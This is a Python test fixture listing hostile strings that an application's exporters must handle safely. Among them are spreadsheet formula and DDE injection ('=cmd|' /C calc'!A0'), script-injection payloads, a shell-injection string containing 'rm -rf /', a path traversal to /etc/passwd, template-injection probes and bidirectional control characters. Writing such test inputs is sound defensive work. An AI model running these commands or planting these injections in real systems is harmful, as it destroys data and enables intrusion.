"""Texts that somebody may type, paste or mean ill with; they go through every format."""

HOSTILE: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'quoted",
    '"quoted"',
    'say "cut", then; tab\there',
    "one\ntwo\r\nthree\rfour",
    "<script>alert(1)</script>",
    "</style></template><img src=x onerror=alert(1)>",
    "<!-- --><b>&amp;&#x3c;]]>",
    "javascript:alert(1)",
    "INT. BAR [night] [/foo] [link=https://example.org]x[/link]",
    "| a | b |\n|---|---|\n# head\n- item\n```\ncode\n```",
    "![image](https://example.org/x.png) [link](javascript:alert(1))",
    "@channel <@U123> *bold* _slanted_ `code`",
    "\x1b[31mred\x1b[0m\x1b]8;;https://example.org\x07link\x1b]8;;\x07",
    "bell\a null\x00 escape\x1b delete\x7f c1\x85\x9b31m",
    "right\u202eto left\u202c \u2066isolated\u2069 \u200bzero \ufeffmark",
    "line\u2028paragraph\u2029end",
    "日本語の夜明け 🌅 👩‍👩‍👧 e\u0301 \U0001f1eb\U0001f1f7",
    "$(touch /tmp/x) `id` ; rm -rf / && true",
    "../../etc/passwd",
    "{{7*7}} ${7*7} %s %d {0}",
    "* FROM CLIP NAME: other\n001  AX       V     C        00:00:00:00",
    "soraplan-receipt=1 plan=0 order=0 version=9 soraplan-receipt=end",
    "\ufffe\uffff",
    "x" * 100_000,
)
"""Each is one prompt, title or name; a text that a line cannot hold is a prompt only."""

HOSTILE_LINES: tuple[str, ...] = tuple(
    text for text in HOSTILE if "\n" not in text and "\r" not in text
)
